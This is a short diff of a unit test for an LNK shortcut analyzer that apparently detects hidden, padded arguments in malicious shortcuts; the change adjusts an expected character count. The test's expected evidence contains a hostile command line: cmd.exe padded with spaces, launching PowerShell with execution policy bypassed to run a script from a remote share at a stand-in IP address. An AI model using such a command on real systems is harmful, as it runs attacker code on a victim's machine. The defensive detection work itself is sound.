@@ -103,7 +103,7 @@ TEST(LnkAnalyzerTest, ArgumentsPaddedPastWhatExplorerShows) {
   const auto findings = harness().analyze(with_attachment("note.lnk", write_shortcut(spec)));
   const Finding* f = AnalyzerHarness::find(findings, "LNK_HIDDEN_ARGUMENTS");
   ASSERT_NE(f, nullptr);
-  EXPECT_EQ(f->evidence.at(0).value, "348 characters of arguments, padded");
+  EXPECT_EQ(f->evidence.at(0).value, "349 characters of arguments, padded");
   EXPECT_EQ(f->evidence.at(1).value,
             "C:\\Windows\\System32\\cmd.exe [300 spaces]/c powershell -ep bypass -f \\\\203.0.113.4\\s\\a.ps1");
   const Finding* command = AnalyzerHarness::find(findings, "LNK_COMMAND_EXECUTION");
